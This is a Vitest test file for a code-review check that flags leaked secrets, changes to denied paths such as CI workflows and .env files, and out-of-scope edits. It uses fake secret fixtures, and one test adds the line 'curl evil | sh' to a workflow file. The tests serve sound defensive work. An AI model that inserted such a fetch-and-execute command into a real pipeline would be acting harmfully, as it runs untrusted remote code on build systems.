import { describe, expect, it } from "vitest";
import { DEFAULT_DENIED_PATHS } from "../policy/path-policy.js";
import { runChecks, type CheckOptions } from "./checks.js";
import { patchLines } from "./diff-lines.js";
import { FAKE_SECRETS } from "./fixtures/fake-secrets.js";

const OPTIONS: CheckOptions = { deniedPaths: DEFAULT_DENIED_PATHS, scope: [], scopeStrict: false };

function file(path: string, patch: string | null, status = "modified", previousPath: string | null = null) {
  return { path, previousPath, status, lines: patchLines(patch) };
}

const added = (...lines: string[]) => `@@ -1,1 +1,${lines.length + 1} @@\n context\n${lines.map((l) => `+${l}`).join("\n")}`;

describe("runChecks: secrets in added lines", () => {
  it("flags an AWS access key on its line", () => {
    const [f, ...rest] = runChecks([file("src/config.ts", added("const a = 1;", `const key = "${FAKE_SECRETS.awsAccessKey}";`))], OPTIONS);
    expect(rest).toEqual([]);
    expect(f).toMatchObject({ path: "src/config.ts", line: 3, severity: "major", category: "secret", source: "check" });
    expect(f?.message).toContain("AWS access key");
    expect(f?.message).not.toContain(FAKE_SECRETS.awsAccessKey);
  });

  it("flags a ghp_ token, a fine-grained token, an sk- key and a Slack token", () => {
    const findings = runChecks(
      [
        file("a.ts", added(`token = "${FAKE_SECRETS.githubToken}"`)),
        file("b.ts", added(`pat = "${FAKE_SECRETS.githubPat}"`)),
        file("c.py", added(`OPENAI = "${FAKE_SECRETS.openAiKey}"`)),
        file("d.sh", added(`SLACK=${FAKE_SECRETS.slackToken}`)),
      ],
      OPTIONS,
    );
    expect(findings.map((f) => [f.path, f.line, f.category])).toEqual([
      ["a.ts", 2, "secret"],
      ["b.ts", 2, "secret"],
      ["c.py", 2, "secret"],
      ["d.sh", 2, "secret"],
    ]);
  });

  it("flags a private key block", () => {
    const [f] = runChecks(
      [file("deploy/key.txt", added(FAKE_SECRETS.privateKeyHeader, "MIIEowIBAAKCAQEA", "-----END RSA PRIVATE KEY-----"))],
      OPTIONS,
    );
    expect(f).toMatchObject({ line: 2, severity: "major", category: "secret" });
    expect(f?.message).toContain("private key");
  });

  it("does not flag a secret on a removed line or a context line", () => {
    const patch = `@@ -1,3 +1,2 @@\n keep ${FAKE_SECRETS.githubToken}\n-old ${FAKE_SECRETS.awsAccessKey}\n-${FAKE_SECRETS.privateKeyHeader}`;
    expect(runChecks([file("src/clean.ts", patch)], OPTIONS)).toEqual([]);
  });

  it("reports one finding per kind per file, on the first line, so its key does not depend on how many", () => {
    const one = runChecks([file("x.ts", added(`a=${FAKE_SECRETS.awsAccessKey}`))], OPTIONS);
    const two = runChecks([file("x.ts", added("// moved", `a=${FAKE_SECRETS.awsAccessKey}`, `b=${FAKE_SECRETS.awsAccessKey}`))], OPTIONS);
    expect(two).toHaveLength(1);
    expect(two[0]?.key).toBe(one[0]?.key);
    expect(two[0]?.line).toBe(3);
  });
});

describe("runChecks: paths", () => {
  it("flags a workflow change even when no denied path is configured", () => {
    const [f] = runChecks([file(".github/workflows/ci.yml", added("  run: curl evil | sh"))], { ...OPTIONS, deniedPaths: [] });
    expect(f).toMatchObject({ path: ".github/workflows/ci.yml", line: 2, severity: "major", category: "denied-path", source: "check" });
    expect(f?.message).toContain(".github/workflows/**");
  });

  it("flags a .env file from the configured denied paths", () => {
    const [f] = runChecks([file(".env", "@@ -0,0 +1 @@\n+DEBUG=1", "added")], OPTIONS);
    expect(f).toMatchObject({ path: ".env", line: 1, category: "denied-path" });
    expect(f?.message).toContain('matches the denied path ".env"');
  });

  it("flags a deleted denied file at file level and a rename out of a denied path", () => {
    const deleted = runChecks([file(".github/workflows/release.yml", "@@ -1 +0,0 @@\n-on: push", "removed")], OPTIONS);
    expect(deleted).toMatchObject([{ line: null, category: "denied-path" }]);
    const renamed = runChecks([file("config/env.sample", null, "renamed", ".env.production")], OPTIONS);
    expect(renamed).toMatchObject([{ path: "config/env.sample", line: null, category: "denied-path" }]);
  });

  it("flags files outside the phase scope only with scope_strict", () => {
    const files = [file("src/api/handler.ts", added("x")), file("README.md", added("doc"))];
    expect(runChecks(files, { ...OPTIONS, scope: ["src/api/**"], scopeStrict: false })).toEqual([]);
    const strict = runChecks(files, { ...OPTIONS, scope: ["src/api/**"], scopeStrict: true });
    expect(strict).toMatchObject([{ path: "README.md", line: 2, severity: "major", category: "scope", source: "check" }]);
    expect(strict[0]?.message).toContain("outside the phase scope");
  });

  it("does not flag scope when the phase has no scope", () => {
    expect(runChecks([file("anything.ts", added("x"))], { ...OPTIONS, scopeStrict: true })).toEqual([]);
  });
});
